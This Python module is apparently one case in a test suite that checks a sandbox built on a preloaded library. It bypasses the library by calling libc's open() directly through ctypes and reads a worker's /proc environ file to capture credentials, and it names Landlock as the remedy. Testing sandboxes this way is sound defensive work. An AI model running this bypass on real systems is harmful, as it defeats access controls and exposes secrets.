# SPDX-License-Identifier: MIT
"""Goal:  the worker's credentials, past a preloaded library that wraps every call that opens files.
Means: ask libc for its own. A symbol looked up in the whole program is the shim's; looked up in one
       library, by its handle, it is that library's: CDLL("libc.so.6").open, not CDLL(None).open.
"""

import ctypes
import os

from attack import DONE, attempting, denied, loot


def run(brief):
    attempting()
    try:
        libc = ctypes.CDLL("libc.so.6", use_errno=True)
        fd = libc.open(f"/proc/{brief.worker}/environ".encode(), os.O_RDONLY | os.O_CLOEXEC)
        if fd < 0:
            return denied("libc's open", os.strerror(ctypes.get_errno()))
        loot(os.read(fd, 65536))
    except OSError as why:
        return denied("libc's open", why)
    return DONE


ATTACK = {
    "effect": "a file that a preloaded library should refuse is read",
    "means": "ctypes: open(3) looked up in libc itself, where no other library comes first",
    "oracle": "secret:environ",
    "id": "LPS-09",
    "attack_id": "T1574.006, CWE-693",
    "remedy": "a decision in the kernel: Landlock",
    "refs": ["dlsym(3)"],
    "run": run,
}
